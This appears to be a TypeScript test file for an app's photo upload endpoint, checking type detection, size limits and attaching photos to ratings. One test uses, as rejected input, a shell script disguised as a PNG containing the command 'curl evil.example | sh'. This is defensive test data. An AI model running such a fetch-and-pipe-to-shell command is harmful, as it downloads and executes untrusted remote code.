import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { makeCounter, registerTransaction } from '../support/fixtures';
import { startTestApp, type TestApp } from '../support/test-app';

// A real 1×1 PNG.
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' +
    '1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
  'hex',
);
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(100, 1)]);

describe('photo uploads', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp({ RATE_LIMIT_PER_MINUTE: '100000' });
  });
  afterAll(() => t.close());

  it('stores a PNG by content hash and answers its id, type and size', async () => {
    const res = await t.http.post('/api/attachments').attach('file', PNG, 'photo.png').expect(201);
    expect(res.body).toEqual({
      id: expect.any(Number),
      mime: 'image/png',
      size: PNG.length,
      key: expect.stringMatching(/^[A-Za-z0-9_-]{24}$/),
    });
    const { createHash } = await import('node:crypto');
    const sha = createHash('sha256').update(PNG).digest('hex');
    expect(existsSync(join(t.config.dataDir, 'uploads', sha.slice(0, 2), `${sha}.png`))).toBe(true);
  });

  it('detects the type by content, not by the file name', async () => {
    const res = await t.http
      .post('/api/attachments')
      .attach('file', JPEG, 'looks-like.png')
      .expect(201);
    expect(res.body.mime).toBe('image/jpeg');
  });

  it('refuses a script renamed .png with 415', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
    const res = await t.http
      .post('/api/attachments')
      .attach('file', script, { filename: 'cute-cat.png', contentType: 'image/png' })
      .expect(415);
    expect(res.body).toMatchObject({ statusCode: 415, error: 'UNSUPPORTED_MEDIA_TYPE' });
  });

  it('refuses a file over 5 MB with 413', async () => {
    const big = Buffer.concat([JPEG, Buffer.alloc(5 * 1024 * 1024, 0)]);
    const res = await t.http.post('/api/attachments').attach('file', big, 'big.jpg').expect(413);
    expect(res.body).toMatchObject({ statusCode: 413, error: 'PAYLOAD_TOO_LARGE' });
  });

  it('refuses a request without the file field', async () => {
    await t.http.post('/api/attachments').field('other', 'x').expect(400);
    await t.http.post('/api/attachments').send({ file: 'base64…' }).expect(415);
  });

  it('lets a rating carry uploaded photos', async () => {
    const counter = await makeCounter(t);
    const tx = await registerTransaction(t, counter);
    const photo = await t.http.post('/api/attachments').attach('file', PNG, 'a.png').expect(201);
    await t.http
      .post('/api/ratings')
      .send({
        token: tx.ratingToken,
        level: 2,
        anonymous: true,
        attachmentIds: [photo.body.id],
        attachmentKeys: [photo.body.key],
      })
      .expect(201);
  });
});
